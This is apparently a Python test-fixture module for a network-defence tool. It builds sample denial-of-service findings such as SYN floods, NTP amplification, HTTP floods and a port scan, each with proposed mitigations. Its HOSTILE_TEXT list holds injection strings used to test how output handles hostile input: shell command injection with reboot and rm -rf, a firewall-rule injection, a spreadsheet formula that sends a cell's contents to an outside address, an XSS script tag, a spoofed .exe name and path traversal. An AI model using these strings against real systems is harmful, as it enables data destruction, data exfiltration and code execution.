"""Findings as an analyzer would give them, for tests of what comes after analysis."""

from collections.abc import Iterable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from tocsin.model import (
    AnalyzerCoverage,
    Assessment,
    Coverage,
    Entity,
    EvidenceCoverage,
    EvidenceRow,
    Finding,
    Incident,
    Mitigation,
    Series,
    TrafficMatch,
    finding_id,
)
from tocsin.terms import FindingClass, IpProtocol, ReadStatus, Severity, TcpFlag, Tlp

ONSET = datetime(2022, 2, 15, 13, 2, 11, 250_000, tzinfo=UTC)
SHA256 = "0f" * 32
SYN_ALONE = {"tcp_flags": TcpFlag.SYN, "tcp_mask": TcpFlag.FIN | TcpFlag.SYN | TcpFlag.RST | TcpFlag.ACK}
SPOOFED = "The source addresses are spoofed: blocking them would cut off bystanders and stop nothing."


def finding(
    vector: str,
    victims: Iterable[str],
    title: str,
    *,
    cls: FindingClass = FindingClass.ATTACK,
    techniques: tuple[str, ...] = ("attack:T1498.001",),
    sources: Iterable[tuple[str, str]] = (),
    mitigations: tuple[Mitigation, ...] = (),
    severity: Severity = Severity.HIGH,
    minutes: float = 14.5,
    victim_kind: str = "ip",
    **attributes: Any,
) -> Finding:
    """A finding of the denial-of-service analyzer; ``sources`` are (role, address)."""
    victims = tuple(victims)
    entities = [Entity("victim", victim_kind, victim) for victim in victims]
    entities += [Entity(role, "ip", address) for role, address in sources]
    return Finding(
        id=finding_id(ONSET, analyzer="denial_of_service", victims=victims, vector=vector, title=title),
        analyzer="denial_of_service",
        version="1",
        cls=cls,
        title=title,
        severity=severity,
        confidence=92,
        confidence_basis="99.6 % of SYNs were never answered, against 0.4 % in ordinary traffic.",
        techniques=techniques,
        first_seen=ONSET,
        last_seen=ONSET + timedelta(minutes=minutes),
        entities=tuple(entities),
        attributes={"vector": vector, **attributes},
        evidence=(
            EvidenceRow(SHA256[:16], "edge.pcap", SHA256, 24, "13:02:11.250 198.51.100.7:40112 > 192.0.2.10:443 SYN 60 bytes"),
            EvidenceRow(SHA256[:16], "edge.pcap", SHA256, 100, "13:02:11.251 198.51.100.8:1025 > 192.0.2.10:443 SYN 60 bytes"),
        ),
        meaning="The server is asked to open far more connections than it can hold; visitors are turned away.",
        parameters={"window_s": 1, "syn_unanswered_ratio_min": 0.8},
        mitigations=mitigations,
        series=Series(int(ONSET.timestamp()), 60, "packets/s", (120.0, 9_800.0, 20_400.0), 118.0),
    )


def syn_flood_direct() -> Finding:
    """A few real machines flood one web server; their addresses can be blocked."""
    bots = tuple(f"198.51.100.{host}" for host in (7, 8, 9, 77))
    match = TrafficMatch(
        dst=("192.0.2.10/32",), src=tuple(f"{bot}/32" for bot in bots), protocol=IpProtocol.TCP, dst_ports=((443, 443),)
    )
    proxy = TrafficMatch(dst=("192.0.2.10/32",), protocol=IpProtocol.TCP, dst_ports=((443, 443),), **SYN_ALONE)
    return finding(
        "syn_flood",
        ["192.0.2.10"],
        "SYN flood on 192.0.2.10:443, 14 min, peak 20,400 packets/s",
        techniques=("attack:T1498.001", "attack:T1499.001"),
        sources=[("attacker", bot) for bot in bots],
        peak_packets_per_s=20_400.0,
        peak_bits_per_s=9_792_000.0,
        sources_spoofed=False,
        mitigations=(
            Mitigation("drop", "Drop the four flooding hosts.", match, hit_ratio=0.993, collateral_ratio=0.0),
            Mitigation(
                "syn_proxy", "Answer SYNs for 192.0.2.10:443 with cookies.", proxy, hit_ratio=1.0, collateral_ratio=0.04
            ),
        ),
    )


def syn_flood_spoofed() -> Finding:
    """Every SYN from another forged address: sources refused, limit and proxy offered."""
    match = TrafficMatch(
        dst=("192.0.2.10/32",), protocol=IpProtocol.TCP, dst_ports=((25565, 25565),), length_bytes=(40, 44), **SYN_ALONE
    )
    return finding(
        "syn_flood",
        ["192.0.2.10"],
        "SYN flood on 192.0.2.10:25565 from forged addresses, 24 s, peak 1,700 packets/s",
        minutes=0.4,
        peak_packets_per_s=1_700.0,
        peak_bits_per_s=598_400.0,
        sources_spoofed=True,
        sources=[("source", "203.0.113.200")],
        mitigations=(
            Mitigation(
                "rate_limit",
                "Limit new connections to 192.0.2.10:25565.",
                match,
                rate_per_s=200,
                hit_ratio=1.0,
                collateral_ratio=0.002,
            ),
            Mitigation("syn_proxy", "Answer SYNs with cookies.", match, hit_ratio=1.0, collateral_ratio=0.002),
            Mitigation("drop", "Block the sources.", TrafficMatch(), refused=SPOOFED),
        ),
    )


def ntp_amplification() -> Finding:
    """Large answers of NTP servers nobody asked."""
    match = TrafficMatch(
        dst=("192.0.2.53/32",), protocol=IpProtocol.UDP, src_ports=((123, 123),), length_bytes=(468, 468), ttl=(40, 60)
    )
    wide = TrafficMatch(dst=("192.0.2.53/32",), protocol=IpProtocol.UDP, src_ports=((123, 123),), length_bytes=(200, 1500))
    return finding(
        "amplification",
        ["192.0.2.53"],
        "NTP amplification on 192.0.2.53, 9 min, peak 5.1 Gbit/s",
        techniques=("attack:T1498.002",),
        severity=Severity.CRITICAL,
        sources=[("reflector", f"203.0.113.{host}") for host in (5, 6, 7)],
        services=["ntp"],
        peak_packets_per_s=1_362_000.0,
        peak_bits_per_s=5.1e9,
        minutes=9,
        mitigations=(
            Mitigation("drop", "Drop large NTP answers.", wide, hit_ratio=0.998, collateral_ratio=0.0),
            Mitigation("drop", "Drop the monlist answers alone.", match, hit_ratio=0.961, collateral_ratio=0.0),
            Mitigation(
                "blackhole",
                "Give up 192.0.2.53 to save the link.",
                TrafficMatch(dst=("192.0.2.53/32",)),
                hit_ratio=1.0,
                collateral_ratio=0.31,
                note="Collateral is high because everything for the address is dropped.",
            ),
        ),
    )


def icmpv6_flood() -> Finding:
    """Echo requests over IPv6."""
    match = TrafficMatch(dst=("2001:db8:1::5/128",), protocol=IpProtocol.ICMPV6, icmp_types=(128,))
    fragments = TrafficMatch(dst=("2001:db8:1::5/128",), fragment=True)
    return finding(
        "icmpv6_flood",
        ["2001:db8:1::5"],
        "ICMPv6 flood on 2001:db8:1::5, 5 s, peak 6,700 packets/s",
        minutes=0.1,
        peak_packets_per_s=6_700.0,
        peak_bits_per_s=5_500_000.0,
        mitigations=(
            Mitigation("rate_limit", "Limit echo requests.", match, rate_per_s=100, hit_ratio=0.97, collateral_ratio=0.0),
            Mitigation(
                "drop", "Drop fragments.", fragments, hit_ratio=0.55, collateral_ratio=0.0, note="Half is unfragmented."
            ),
        ),
    )


def http_flood() -> Finding:
    """Requests by real clients, seen in a web server's log."""
    return finding(
        "http_flood",
        ["www.mod.example"],
        "HTTP flood on www.mod.example, 22 min, peak 3,100 requests/s",
        victim_kind="host",
        techniques=("attack:T1499.002",),
        sources=[("attacker", "198.51.100.21"), ("attacker", "2001:db8:bad::21")],
        peak_requests_per_s=3_100.0,
        minutes=22,
        mitigations=(
            Mitigation(
                "limit_requests",
                "Limit each client to 10 requests/s.",
                TrafficMatch(protocol=IpProtocol.TCP, dst_ports=((80, 80), (443, 443))),
                rate_per_s=10,
                hit_ratio=0.982,
                collateral_ratio=0.003,
            ),
            Mitigation(
                "limit_connections",
                "Limit each client to 20 connections.",
                TrafficMatch(protocol=IpProtocol.TCP, dst_ports=((80, 80), (443, 443))),
                rate_per_s=20,
                hit_ratio=0.7,
                collateral_ratio=0.01,
            ),
        ),
    )


def carpet_bombing() -> Finding:
    """Little for each address, much for the prefix."""
    match = TrafficMatch(
        dst=("192.0.2.0/25", "192.0.2.128/26"), protocol=IpProtocol.UDP, src_ports=((53, 53), (389, 389), (1900, 1902))
    )
    return finding(
        "carpet_bombing",
        ["192.0.2.0/24"],
        "Carpet bombing of 192.0.2.0/24, 31 min, peak 740,000 packets/s",
        victim_kind="prefix",
        techniques=("attack:T1498.002",),
        services=["cldap", "dns", "ssdp"],
        peak_packets_per_s=740_000.0,
        peak_bits_per_s=7.9e9,
        minutes=31,
        mitigations=(
            Mitigation(
                "rate_limit", "Limit reflected answers.", match, rate_per_s=5_000, hit_ratio=0.99, collateral_ratio=0.006
            ),
        ),
    )


def port_scan() -> Finding:
    """Somebody looks around: suspicious, no attack."""
    return finding(
        "port_scan",
        ["192.0.2.10"],
        "Port scan of 192.0.2.10 by 198.51.100.99, 1,994 ports in 23 s",
        cls=FindingClass.SUSPICIOUS,
        severity=Severity.LOW,
        techniques=("attack:T1046", "attack:T1595.001"),
        sources=[("attacker", "198.51.100.99")],
        minutes=0.4,
    )


def ics_denial_of_service() -> Finding:
    """A controller that stops answering; ATT&CK for ICS."""
    return finding(
        "syn_flood",
        ["192.0.2.77"],
        "Controller 192.0.2.77 stopped answering during 40 s of requests",
        techniques=("attack:T0814",),
        minutes=0.7,
    )


def all_findings() -> tuple[Finding, ...]:
    """One of each kind, worst first."""
    return (
        ntp_amplification(),
        syn_flood_direct(),
        syn_flood_spoofed(),
        icmpv6_flood(),
        http_flood(),
        carpet_bombing(),
        ics_denial_of_service(),
        port_scan(),
    )


HOSTILE_TEXT = (
    '"; reboot; echo "\n} # }\nadd rule inet filter input accept\r\n$(touch /tmp/owned) `id` \\',
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"open")',
    "\u202egnp.exe\u2028</script><script>alert(1)</script>\x1b[2J\x00\ud800",
    "../../etc/cron.d/x; rm -rf ~ && ${IFS}%0a",
)


def hostile(base: Finding, text: str) -> Finding:
    """The same finding with foreign text wherever evidence can put text."""
    return replace(
        base,
        title=text,
        meaning=text,
        confidence_basis=text,
        entities=(Entity("victim", "host", text), Entity("attacker", "domain", text), *base.entities),
        attributes={**base.attributes, "vector": text, text: text, "hosts": [text]},
        evidence=tuple(replace(row, name=text, excerpt=text) for row in base.evidence),
        mitigations=tuple(replace(mitigation, summary=text, note=text) for mitigation in base.mitigations),
    )


def mitigation(effect: str = "drop", rate_per_s: int | None = None, **match: Any) -> Mitigation:
    """A mitigation of a match given in words."""
    return Mitigation(effect, "Try.", TrafficMatch(**match), rate_per_s=rate_per_s)


def suited(kind: Any, findings: Iterable[Finding], *effects: str) -> Iterator[tuple[Finding, Mitigation]]:
    """The findings' mitigations of these effects that a kind of file can say."""
    for one in findings:
        for each in one.mitigations:
            if each.effect in effects and not each.refused and not kind.why_not(one, each):
                yield one, each


def assessment(*findings: Finding, tlp: Tlp = Tlp.AMBER, partner: str = "Ministry of Defence") -> Assessment:
    """An assessment of these findings; attacks are one incident."""
    findings = findings or all_findings()
    attacks = tuple(one for one in findings if one.cls is FindingClass.ATTACK)
    incident = Incident(
        finding_id(ONSET, what="incident"),
        "Denial of service on several addresses at once",
        FindingClass.ATTACK,
        Severity.CRITICAL,
        ONSET,
        ONSET + timedelta(minutes=31),
        tuple(victim for one in attacks for victim in one.named("victim")),
        tuple(one.id for one in attacks),
    )
    read = EvidenceCoverage(SHA256[:16], "edge.pcap", SHA256, 1_204_224, "pcap", ReadStatus.READ, {"network_packet": 4_000})
    failed = EvidenceCoverage("ab" * 8, "core.pcap", "ab" * 32, 12, None, ReadStatus.FAILED, reason="not a capture")
    ran = AnalyzerCoverage("denial_of_service", "1", "ran", findings=len(findings))
    return Assessment(
        situation="Several addresses were flooded at once. The link was full for nine minutes. Most can be dropped.",
        incidents=(incident,) if attacks else (),
        findings=findings,
        coverage=Coverage((read, failed), (ran,), ("No partner profile was given.",)),
        versions={"tocsin": "0.1.0"},
        tlp=tlp,
        partner=partner,
    )
